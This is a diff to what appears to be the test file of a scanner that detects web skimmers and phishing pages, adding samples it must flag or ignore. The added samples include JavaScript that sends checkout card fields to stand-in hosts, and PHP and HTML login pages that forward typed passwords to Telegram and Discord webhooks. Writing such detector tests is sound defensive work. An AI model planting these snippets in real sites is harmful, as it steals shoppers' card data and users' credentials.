@@ -104,6 +104,10 @@ RULE = 'Script copies card data to another host'
 hit(RULE, '/var/www/shop/js/image.js', form + " if (/checkout/.test(location)) new Image().src = 'https://s.example.net/?' + btoa(n + c); });\n")
 hit(RULE, '/var/www/shop/js/beacon.js', form + f" navigator.sendBeacon(atob('{b64('https://stats.example.net/c')}'), btoa(n + c)); }});\n")
 hit(RULE, '/var/www/shop/js/name.js', form + " fetch('https://www.google-anaiytics.com/g', {method: 'POST', body: n + c}); });\n")
+hit(RULE, '/var/www/shop/js/jquery.js', "$('#cc, #cvv').on('change', function () { var d = $('#payment').serialize(); new Image().src = 'https://s.example.net/p?' + d; /* DAVY TEST IMITATION */ });\n")
+hit('Script reads card data and names another host', '/var/www/shop/js/ajax.js',
+    "$(document).on('submit', '#ccn,#cvc', function () { $.ajax({url: 'https://s.example.net/', data: $(this).serialize()}) /* DAVY TEST IMITATION */ });\n")
+quiet('/var/www/shop/js/masked.js', "var m = ['#cc-number', '#cvv', '#card']; document.addEventListener('change', e => m.includes('#' + e.target.id) || navigator.sendBeacon('https://s.example.net/e', e.type));\n")
 quiet('/var/www/shop/js/own.js', form + " fetch('/api/pay', {method: 'POST', body: n + c}); });\n")
 quiet('/var/www/shop/js/paid.js', form + " fetch('https://api.stripe.com/v1/tokens', {method: 'POST', body: btoa(n + c)}); });\n")
 
@@ -120,6 +124,11 @@ for name, text in {
 quiet('/var/www/html/run/ok.php', "<?php $id = intval($_GET['id']); $h[$_GET['a']](); $db->exec($_POST['q']); system('ls ' . escapeshellarg($_POST['d']));\n")
 hit('Page that mails or messages what visitors type', '/var/www/html/login/post.php',
     "<?php /* DAVY TEST IMITATION */ $m = $_POST['user'] . $_POST['pass']; file_get_contents('https://api.telegram.org/bot1/sendMessage?text=' . $m);\n")
+hit('Page that mails or messages what visitors type', '/var/www/html/login/hook.php',
+    "<?php /* DAVY TEST IMITATION */ $m = $_POST['user'] . $_POST['pass']; post('https://discord.com/api/webhooks/1/x', array('content' => $m));\n")
+hit('Page that asks for a password and names a chat', '/var/www/html/login/chat.html',
+    '<html><form id="f"><input name="u"><input type="password" name="p"></form><script>/* DAVY TEST IMITATION */ f.onsubmit = () => '
+    "fetch('https://api.telegram.org/bot' + t + '/sendMessage?text=' + f.u.value + f.p.value)</script></html>\n")
 
 # 121: programs under longer keys, code in pictures
 gif = bytes.fromhex('47494638396101000100800000ffffff0000002c00000000010001000002024401003b')
